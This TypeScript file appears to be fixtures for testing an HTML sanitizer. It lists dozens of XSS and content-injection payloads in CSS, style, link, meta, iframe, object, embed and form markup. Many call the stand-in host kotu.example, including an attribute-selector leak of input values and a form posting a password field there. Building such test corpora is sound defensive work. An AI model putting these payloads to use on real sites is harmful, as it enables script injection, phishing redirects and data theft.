import { named } from './named.ts'

// Everything that fetches, covers or redirects without a handler: styles, links, frames, plugins, media, forms.

const styled = (css: string): string => `<p style="${css}">x</p>`

const CSS: Record<string, string> = {
  expression: 'width:expression(xss())',
  'expression with a comment': 'xss:expr/**/ession(xss())',
  'expression with an escape': 'width:e\\78pression(xss())',
  'expression in full-width letters': 'width:\uff45xpression(xss())',
  'expression after an allowed value': 'color:red;color:expression(xss())',
  'javascript: in url()': 'background:url(javascript:xss())',
  'javascript: in url() with entities': 'background:url(&#106;avascript:xss())',
  'javascript: in url() with a line feed': 'background:url(java\nscript:xss())',
  'vbscript: in url()': 'background-image:url(vbscript:xss)',
  'data in url()': 'background:url(data:image/svg+xml,<svg/onload=xss()>)',
  'background from elsewhere': 'background:url(https://kotu.example/x.png)',
  'background-color with a url': 'background-color:#fff url(https://kotu.example/y.png)',
  'image-set()': "background-image:image-set('https://kotu.example/z.png' 1x)",
  'list-style-image': 'display:list-item;list-style-image:url(https://kotu.example/l.png)',
  'border-image': 'border:9px solid;border-image-source:url(https://kotu.example/b.png)',
  'content url': 'content:url(https://kotu.example/c.png)',
  'cursor url': 'cursor:url(https://kotu.example/c.cur),auto',
  'filter url': 'filter:url(https://kotu.example/f.svg#f)',
  'mask url': 'mask:url(https://kotu.example/m.svg#m);-webkit-mask-image:url(https://kotu.example/w.png)',
  'clip-path and shape-outside url':
    'clip-path:url(https://kotu.example/p.svg#p);float:left;shape-outside:url(https://kotu.example/s.png)',
  'cross-fade()': 'background-image:cross-fade(url(https://kotu.example/a.png) 50%,red)',
  'url() with an escaped name': 'background:u\\72l(https://kotu.example/u.png)',
  'url() in a custom property': '--k:url(https://kotu.example/k.png);background:var(--k)',
  'attr() and env()': 'color:attr(title type(<color>),red);width:env(x,9px)',
  '-moz-binding': '-moz-binding:url(https://kotu.example/x.xml#x)',
  'behavior url': 'behavior:url(https://kotu.example/x.htc)',
  'behavior of time2': 'behavior:url(#default#time2)',
  '-o-link': "-o-link:'javascript:xss()';-o-link-source:current",
  'filter of progid': "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://kotu.example/x')",
  'fixed overlay': 'position:fixed;inset:0;z-index:2147483647;background-color:white',
  'absolute overlay by calc()': 'position:absolute;top:calc(0px);left:0;width:100vw;height:100vh',
  'huge text': 'font-size:9999px;line-height:9999px',
  'negative margin': 'margin:-9999px 0 0 -9999px;transform:scale(999)',
  'hidden text': 'display:none;visibility:hidden;opacity:0;color:transparent',
  'end of a block': 'color:red;}body{background:url(https://kotu.example/e.png)',
  'end of an attribute': 'color:red&quot; onclick=&quot;xss()',
  'end of a style element': 'color:red</style><script>xss()</script>',
  'important and hacks': '*color:red;_color:red;color:red!important;color:red\\9',
  'backslash at the end': 'color:red;font-weight:bold\\',
  'NUL inside': 'back\u0000ground:url(https://kotu.example/n.png)',
  'comment around a declaration': 'color:red/*;*/;/*color:*/background:url(https://kotu.example/h.png)',
  'an import': '@import url(https://kotu.example/i.css);color:red',
  'a font': 'font-family:x;src:url(https://kotu.example/f.woff)',
  animation: 'animation:x 1s infinite;animation-timeline:scroll()',
  'colour of a function': 'color:rgb(1,2,3);background-color:color-mix(in srgb,red,url(https://kotu.example/x))',
  'text decoration with a url': 'text-decoration:underline url(https://kotu.example/t)',
}

const STYLE: Record<string, string> = {
  'style element': '<style>body{background:url(https://kotu.example/s1.png)}</style>',
  'style element with an import': '<style>@import url(https://kotu.example/s2.css);</style>',
  'style element with an import of data':
    '<style>@import "data:text/css,body{background:url(https://kotu.example/s3.png)}";</style>',
  'style element with an attribute leak':
    '<style>input[value^=a]{background:url(https://kotu.example/s4.png)}</style><input value=abc>',
  'style element with a font leak':
    '<style>@font-face{font-family:k;src:url(https://kotu.example/s5.woff);unicode-range:U+0-7FF}p{font-family:k}</style><p>x</p>',
  'style element with keyframes and a handler':
    '<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=xss()>x</p>',
  'style element of another type': '<style type=text/javascript>xss()</style>',
  'style by link': '<link rel=stylesheet href=https://kotu.example/l1.css>',
  'style by link of data': '<link rel=stylesheet href="data:text/css,*{background:url(https://kotu.example/l2.png)}">',
  'style by link header look-alike': '<link rel="alternate stylesheet" title=x href=https://kotu.example/l3.css>',
  'style by a legacy attribute': '<body text=red bgcolor="url(https://kotu.example/x)" link=javascript:xss()>',
}

const ELEMENTS: Record<string, string> = {
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://kotu.example/m1">',
  'meta refresh to javascript:': '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  'meta refresh to data': '<meta http-equiv=refresh content="0;url=data:text/html,<script>xss()</script>">',
  'meta refresh with a line feed': '<meta http-equiv="re\nfresh" content="0; URL=\'https://kotu.example/m2\'">',
  'meta set-cookie': '<meta http-equiv=set-cookie content="x=y">',
  'meta policy':
    '<meta http-equiv=content-security-policy content="script-src \'none\'"><meta name=referrer content=unsafe-url>',
  'meta link of policy reports':
    '<meta http-equiv=content-security-policy content="img-src \'none\'; report-uri https://kotu.example/r">',
  'base of another host': '<base href=https://kotu.example/><script src=b.js></script>',
  'base target': '<base target="kotu"><a href=/x>x</a>',
  'link import': '<link rel=import href=https://kotu.example/i.html>',
  'link preload': '<link rel=preload as=image href=https://kotu.example/p.png>',
  'link prefetch': '<link rel=prefetch href=https://kotu.example/f.html>',
  'link modulepreload': '<link rel=modulepreload href=https://kotu.example/m.js>',
  'link icon': '<link rel="shortcut icon" href=https://kotu.example/i.ico>',
  'link manifest': '<link rel=manifest href=https://kotu.example/m.json>',
  'link dns-prefetch and preconnect':
    '<link rel=dns-prefetch href=//kotu.example><link rel=preconnect href=//kotu.example>',
  'link imagesrcset': '<link rel=preload as=image imagesrcset="https://kotu.example/q.png 1x">',
  'iframe of another host': '<iframe src=https://kotu.example/f></iframe>',
  'iframe of data': "<iframe src=\"data:text/html,<script>parent.postMessage('xss','*')</script>\"></iframe>",
  'iframe with a name': '<iframe name=xss src=about:blank></iframe>',
  'iframe credentialless with policy':
    '<iframe credentialless csp="x" allow="camera *" src=https://kotu.example/c></iframe>',
  'object of html':
    "<object type=text/html data=\"data:text/html,<script>parent.postMessage('xss','*')</script>\"></object>",
  'object of another host': '<object data=https://kotu.example/o></object>',
  'object of flash':
    '<object classid=clsid:D27CDB6E-AE6D-11cf-96B8-444553540000><param name=movie value=https://kotu.example/x.swf></object>',
  'object with params':
    '<object><param name=src value=javascript:xss()><param name=url value=javascript:xss()></object>',
  'embed of another host': '<embed src=https://kotu.example/e>',
  'embed of flash':
    '<embed src=https://kotu.example/x.swf allowscriptaccess=always type=application/x-shockwave-flash>',
  'embed of svg':
    "<embed type=image/svg+xml src=\"data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=parent.postMessage('xss','*')></svg>\">",
  applet: '<applet codebase=https://kotu.example/ code=X.class></applet>',
  'video from elsewhere': '<video src=https://kotu.example/v.mp4 autoplay></video>',
  'video poster from elsewhere': '<video poster=https://kotu.example/v.png></video>',
  'audio from elsewhere': '<audio src=https://kotu.example/a.mp3 autoplay></audio>',
  'source from elsewhere': '<video autoplay><source src=https://kotu.example/s.mp4></video>',
  'track from elsewhere': '<video src=/x><track default src=https://kotu.example/t.vtt></video>',
  'picture source from elsewhere': '<picture><source srcset=https://kotu.example/p.png><img></picture>',
  'srcset from elsewhere': '<img srcset="https://kotu.example/1.png 1x, https://kotu.example/2.png 2x">',
  'input image from elsewhere': '<input type=image src=https://kotu.example/i.png>',
  'table background from elsewhere': '<table background=https://kotu.example/t.png><tr><td>x</table>',
  'body background from elsewhere': '<body background=https://kotu.example/b.png>',
  'form to another host':
    '<form action=https://kotu.example/ method=post><input name=sifre type=password><button>x</button></form>',
  'form that sends itself':
    '<form action=https://kotu.example/x><input type=submit autofocus onfocus=this.form.submit()></form>',
  'form control of another form':
    '<input form=giris name=x value=y><button form=giris formaction=https://kotu.example/ formtarget=_top>x</button>',
  'form method dialog': '<dialog open onclose=xss()><form method=dialog><button>x</button></form></dialog>',
  'password field that a browser fills in':
    '<input type=password name=sifre autocomplete=current-password onchange=xss()>',
  'file and hidden fields':
    '<input type=file onchange=xss()><input type=hidden name=csrf value=x oncontentvisibilityautostatechange=xss() style=content-visibility:auto>',
  'keygen and isindex': '<keygen autofocus onfocus=xss()><isindex prompt=x autofocus onfocus=xss()>',
  'geolocation and permission elements':
    '<permission type=camera onclick=xss()></permission><geolocation onlocation=xss()></geolocation>',
  'noscript refresh': '<noscript><meta http-equiv=refresh content="0;url=https://kotu.example/n"></noscript>',
  'frameset of another host': '<frameset><frame src=https://kotu.example/g></frameset>',
}

export const embeds: Record<string, string> = {
  ...Object.fromEntries([...named('css', CSS, styled), ...named('sheet', STYLE), ...named('element', ELEMENTS)]),
}
